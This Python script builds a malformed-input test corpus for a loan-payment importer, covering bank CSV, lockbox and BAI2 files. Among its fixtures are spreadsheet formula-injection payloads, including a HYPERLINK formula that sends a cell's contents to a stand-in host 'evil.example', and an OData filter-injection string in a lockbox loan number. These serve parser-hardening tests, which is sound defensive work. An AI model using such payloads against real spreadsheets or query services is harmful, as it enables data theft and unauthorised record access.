#!/usr/bin/env python3
"""Writes the malformed-input corpus of this folder (issue #7): bank files as they arrive after
spreadsheets, wrong encodings and truncated transfers have been at them.

Run from this folder: `python3 make_corpus.py`. The files are committed; this script documents
how each was built and rebuilds them after a deliberate change. `tests/hardening.rs` holds the
expected outcome of every file (exit status, message with file, line and field, what is sent).
"""

import os

HERE = os.path.dirname(os.path.abspath(__file__))


def write(folder, name, data):
    os.makedirs(os.path.join(HERE, folder), exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(HERE, folder, name), "wb") as f:
        f.write(data)


# ---------------------------------------------------------------------------------------------
# CSV, read by the source `bank_csv` (loan ids, default headers).

HEAD = "loan,amount,date,reference\n"
GOOD = "1,10.00,2026-11-20,r1\n"


def csv(name, data):
    write("csv", name, data)


def one_bad_row(name, loan="2", amount="11.00", date="2026-11-20", reference="r2"):
    """A valid row, the bad one (line 3), another valid row."""
    csv(name, HEAD + GOOD + f"{loan},{amount},{date},{reference}\n" + "3,12.00,2026-11-20,r3\n")


# Encodings and bytes that are not text.
csv("latin1.csv", HEAD.encode() + GOOD.encode() + b"2,11.00,2026-11-20,Jos\xe9 Garc\xeda\n")
csv("utf16le_bom.csv", (HEAD + GOOD).encode("utf-16"))  # with its BOM, little-endian
csv("utf16be.csv", (HEAD + GOOD).encode("utf-16-be"))  # no BOM: ASCII with NULs between
csv("nul_byte.csv", HEAD.encode() + GOOD.encode() + b"2,11.00,2026-11-20,r\x002\n")
csv("binary.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes((i * 37 + 11) % 256 for i in range(2048)))
csv("cr_line_endings.csv", "loan,amount,date\r1,10.00,2026-11-20\r2,11.00,2026-11-20\r")

# Nothing, or nothing but a header.
csv("empty.csv", b"")
csv("blank_lines.csv", "\n\r\n   \n")
csv("header_only.csv", HEAD)
csv("empty_cells_only.csv", HEAD + ",,,\n , , , \n")

# Structure: ragged rows, overlong lines, quotes.
csv("ragged_short_row.csv", HEAD + GOOD + "2,11.00\n" + "3,12.00,2026-11-20,r3\n")
# An unquoted thousands separator shifts the cells: amount "1", and "234.50" beyond the header.
csv("ragged_long_row.csv", "loan,date,amount\n1,2026-11-20,10.00\n7,2026-11-20,1,234.50\n")
csv("long_line_1mb.csv", "loan,amount,date," + "x" * (1 << 20))
csv("unterminated_quote.csv", HEAD + '1,10.00,2026-11-20,"chk 1\n2,11.00,2026-11-20,r2\n3,12.00,2026-11-20,r3\n')
csv("quote_runs_on.csv", HEAD + GOOD + '2,11.00,2026-11-20,"memo\n' + "more memo text\n" * 5000 + 'end"\n')
csv("duplicate_headers.csv", "loan,amount,date,amount\n1,10.00,2026-11-20,11.00\n")
csv("duplicate_optional_header.csv", "loan,amount,date,reference,Reference\n1,10.00,2026-11-20,a,b\n")
csv("missing_amount_column.csv", "loan,date,reference\n1,2026-11-20,r1\n")
csv("preamble_line.csv", "Bank of Example - payments export 2026-11-20\n" + HEAD + GOOD)
csv("semicolons.csv", "loan;amount;date\n1;10,00;2026-11-20\n")

# Amounts.
one_bad_row("amount_exponent.csv", amount="1e9")
one_bad_row("amount_nan.csv", amount="NaN")
one_bad_row("amount_infinity.csv", amount="inf")
one_bad_row("amount_arabic_digits.csv", amount="\u0661\u0662\u0663")
one_bad_row("amount_fullwidth_digits.csv", amount="\uff11\uff12\uff13")
one_bad_row("amount_double_minus.csv", amount="--5")
one_bad_row("amount_three_decimals.csv", amount="10.005")
one_bad_row("amount_zero.csv", amount="0.00")
one_bad_row("amount_overflows_i64.csv", amount="92233720368547758.08")
one_bad_row("amount_european.csv", amount='"1.234,50"')

# Dates.
one_bad_row("date_feb_30.csv", date="2026-02-30")
one_bad_row("date_far_future.csv", date="2099-01-01")
one_bad_row("date_with_time.csv", date="2026-11-20T10:00:00")

# Loan ids.
one_bad_row("loan_huge.csv", loan="99999999999999999999999")
one_bad_row("loan_i64_overflow.csv", loan="9223372036854775808")
one_bad_row("loan_negative.csv", loan="-7")
one_bad_row("loan_decimal.csv", loan="7.0")

# Other columns.
csv("payment_method_huge.csv", "loan,amount,date,payment_method_id\n1,10.00,2026-11-20,\n2,11.00,2026-11-20,99999999999\n")

# Formula payloads (spreadsheet injection).
one_bad_row("formula_amount.csv", amount='"=HYPERLINK(""http://evil.example/?d=""&A1,""refund"")"')
one_bad_row("formula_loan.csv", loan="=1+2")
one_bad_row("formula_reference.csv", reference='"=HYPERLINK(""http://evil.example/"",""x"")"')


# ---------------------------------------------------------------------------------------------
# Lockbox, read by the source `lockbox` (display ids, control totals enforced), default layout.

W = 80


def pad(rec):
    return rec.ljust(W)


def lb_detail(item, cents, check, remitter="J DOE", amount=None):
    amount = amount if amount is not None else f"{cents:010d}"
    return pad("6001" + item + amount + "021000021" + "4455667788" + check.rjust(10) + "111426" + remitter)


def lb_overflow(item, data):
    return pad("4001" + item + "4019" + data)


def lockbox(payments, date="261118", trailer=None, eol="\n"):
    """A whole transmission: one lockbox, one batch; `payments` is [(cents, loan), ...]."""
    recs = [pad("101021000021009876543212611200615"), pad("5001   1234567" + date + "02100002100987654321")]
    for i, (cents, loan) in enumerate(payments):
        item = f"{i + 1:03d}"
        recs.append(lb_detail(item, cents, str(10440 + i)))
        recs.append(lb_overflow(item, loan))
    total = sum(c for c, _ in payments)
    n = len(payments)
    recs.append(pad("7001000" + "1234567" + date + f"{n:03d}" + f"{total:010d}"))
    recs.append(pad("8000000" + "1234567" + date + f"{n:04d}" + f"{total:010d}"))
    recs.append(pad("9" + (trailer if trailer is not None else f"{len(recs) + 1:06d}")))
    return eol.join(recs) + eol


def lbx(name, data):
    write("lockbox", name, data)


GOOD_LBX = lockbox([(25000, "LN000123"), (12345, "LN000456")])
lines = GOOD_LBX.split("\n")

lbx("empty.lbx", b"")
# Cut inside the second detail record: the trailers never came.
cut = GOOD_LBX.index(lines[4]) + 20
lbx("truncated_mid_record.lbx", GOOD_LBX[:cut])
lbx("truncated_before_trailer.lbx", "\n".join(lines[:8]) + "\n")
# A transfer that pre-allocated the file and stopped: the tail is NUL bytes.
lbx("nul_padded.lbx", ("\n".join(lines[:5]) + "\n").encode() + b"\x00" * 600)
lbx("latin1.lbx", GOOD_LBX.replace("J DOE", "JOS\u00c9 P").encode("latin-1"))
lbx("utf16le.lbx", GOOD_LBX.encode("utf-16"))
lbx("binary.lbx", bytes((i * 131 + 7) % 256 for i in range(4096)))
lbx("long_line_1mb.lbx", "1" + "0" * (1 << 20))
lbx("amount_letters.lbx", GOOD_LBX.replace(lines[2], lb_detail("001", 0, "10440", amount="00000O2500")))
lbx("deposit_date_feb_30.lbx", lockbox([(25000, "LN000123")], date="260230"))
lbx("detail_before_lockbox_header.lbx", "\n".join([lines[0], lines[2], lines[3]] + lines[1:2] + lines[4:]))
lbx("csv_given_as_lockbox.lbx", HEAD + GOOD)
lbx("trailer_count_not_digits.lbx", lockbox([(25000, "LN000123")], trailer="00OO07"))
lbx("control_total_mismatch.lbx", GOOD_LBX.replace("0020000037345", "0020000037346", 1))
# OData injection through the coupon's loan number: must match no loan, not every loan.
lbx("display_id_injection.lbx", lockbox([(25000, "LN000123"), (12345, "X' or displayId ne 'Y")]))
lbx("formula_loan_number.lbx", lockbox([(25000, "LN000123"), (12345, '=HYPERLINK("x")')]))
# With the source `lockbox_wide` (detail_amount = [8, 26]): 19-digit amounts whose sum overflows i64.
big = [pad("101021000021009876543212611200615"), pad("5001   1234567261118"),
       pad("6001001" + "9000000000000000000"), lb_overflow("001", "LN000001"),
       pad("6001002" + "9000000000000000000"), lb_overflow("002", "LN000002")]
lbx("totals_overflow_i64.lbx", "\n".join(big) + "\n")


# ---------------------------------------------------------------------------------------------
# BAI2, read by the source `ach` (loan ids from the customer reference, type codes 165 and 175).

def bai2(details, date="261119", total=None, records=None):
    """One group, one account; `details` are the 16 records' fields after `16,`."""
    amounts = [int(d.split(",")[1]) for d in details]
    t = sum(amounts) if total is None else total
    recs = ["01,122099999,123456789,261120,0200,1,,,2/", f"02,031001234,122099999,1,{date},2359,USD,2/",
            "03,123456789,USD/"]
    recs += [f"16,{d}/" for d in details]
    n = len(details)
    recs.append(f"49,{t},{n + 2}/")
    recs.append(f"98,{t},1,{n + 4}/")
    recs.append(f"99,{t},1,{records if records is not None else n + 6}/")
    return "\n".join(recs) + "\n"


def bai(name, data):
    write("bai2", name, data)


GOOD_BAI = bai2(["165,150000,0,ACH0001,482,LOAN 482 PAYMENT", "165,25000,0,ACH0002,17,LOAN 17"])
blines = GOOD_BAI.split("\n")

bai("empty.bai", b"")
bai("truncated_mid_record.bai", GOOD_BAI[: GOOD_BAI.index(blines[4]) + 12])
bai("truncated_after_account.bai", "\n".join(blines[:6]) + "\n")
bai("nul_padded.bai", ("\n".join(blines[:5]) + "\n").encode() + b"\x00" * 700)
bai("latin1.bai", GOOD_BAI.replace("LOAN 17", "JOS\u00c9 LOAN 17").encode("latin-1"))
bai("utf16le.bai", GOOD_BAI.encode("utf-16"))
bai("binary.bai", bytes((i * 97 + 3) % 256 for i in range(4096)))
bai("long_line.bai", "01," + "1" * (1 << 20) + "/\n")
bai("amount_decimal_point.bai", GOOD_BAI.replace("165,150000,", "165,1500.00,"))
bai("amount_huge.bai", bai2(["165,99999999999999999999,0,ACH0001,482,LOAN 482"], total=0))
bai("totals_overflow_i64.bai", "\n".join(blines[:3] + ["16,165,9000000000000000000,0,A1,482/",
                                                       "16,165,9000000000000000000,0,A2,17/"] + blines[5:]))
bai("total_not_a_number.bai", GOOD_BAI.replace("49,175000,", "49,99999999999999999999,"))
bai("as_of_feb_30.bai", bai2(["165,150000,0,ACH0001,482,LOAN 482"], date="260230"))
bai("csv_given_as_bai2.bai", HEAD + GOOD)
bai("orphan_continuation.bai", "88,LOAN 5/\n" + GOOD_BAI)
bai("record_after_trailer.bai", GOOD_BAI + "16,165,100,0,ACH9,5/\n")
bai("wrong_file_total.bai", GOOD_BAI.replace("99,175000,", "99,175001,"))
bai("loan_huge.bai", bai2(["165,150000,0,ACH0001,99999999999999999999999,LOAN", "165,25000,0,ACH0002,17,LOAN 17"]))
bai("loan_formula.bai", bai2(["165,150000,0,ACH0001,=HYPERLINK(\"x\"),LOAN", "165,25000,0,ACH0002,17,LOAN 17"]))
bai("loan_arabic_digits.bai", bai2(["165,150000,0,ACH0001,\u0664\u0668\u0662,LOAN", "165,25000,0,ACH0002,17,LOAN 17"]))
